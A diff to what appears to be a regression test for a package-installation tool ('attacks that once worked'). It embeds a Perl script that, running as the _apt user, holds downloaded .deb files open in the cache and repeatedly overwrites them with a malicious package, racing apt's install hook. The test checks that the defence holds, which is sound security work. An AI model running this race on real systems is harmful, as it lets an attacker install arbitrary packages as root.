@@ -32,17 +32,19 @@ my ($evil) = do { local $/; open my $f, "<", "/opt/evil.deb" or die; <$f> };
 my (%held, $seen);
 sub hook { for (</proc/[0-9]*/cmdline>) { open my $f, "<", $_ or next; return 1 if (<$f> // "") =~ /--apt-hook/ } 0 }
 until (%held) {
-  for my $file (glob "/var/cache/aegis/archives/*/partial/*.deb") {
+  for my $file (glob "/var/cache/aegis/archives/*/partial/swapped_*.deb") {
     sysopen my $f, $file, O_RDWR or next;
     $held{$file} = $f;
     print "held $file\n";
   }
 }
-until (hook()) {}
-while (hook()) {}
+sub pause { select undef, undef, undef, 0.001 }
+pause() until hook();
+pause() while hook();
 for (my $n = 1; ; $n++) {
   for my $f (values %held) { sysseek $f, 0, 0; syswrite $f, $evil }
   print "written\n" if $n == 1;
+  pause();
 }
 `;
 
@@ -188,13 +190,20 @@ describeOnThrowaway("attacks that once worked", () => {
     const pool = () => repo.files().get("pool/swapped_1.0_all.deb") ?? new Uint8Array();
     await repo.publish([marked("evil", 2)]);
     const evil = pool();
-    await chain.host.repo.publish([marked("genuine", 16_000_000)]);
+    // With five more, apt names them to dpkg by links in a directory of its own (--recursive).
+    const others = pick("bystander=1.0", "libapp-extra=1.0", "phased=1.0", "held=1.0", "app=1.0");
+    await repo.publish([marked("genuine", 16_000_000), ...others, ...pick("libapp=1.0")]);
     await chain.host.aptUpdate();
     chain.host.write("/opt/evil.deb", padded(evil, pool().length));
     chain.host.write("/opt/downloader.pl", DOWNLOADER);
     const asApt = ["setpriv", "--reuid=_apt", "--regid=nogroup", "--clear-groups"];
     const attacker = await chain.host.spawn([...asApt, "perl", "/opt/downloader.pl"]);
-    const { path, execution } = await chain.signed("apt", "install", "swapped");
+    const { path, execution } = await chain.signed(
+      "apt",
+      "install",
+      "swapped",
+      ...others.map(({ name }) => name),
+    );
     const { status } = await chain.apply(path);
     // It tried to the end.
     expect(attacker.stdout()).toBe(
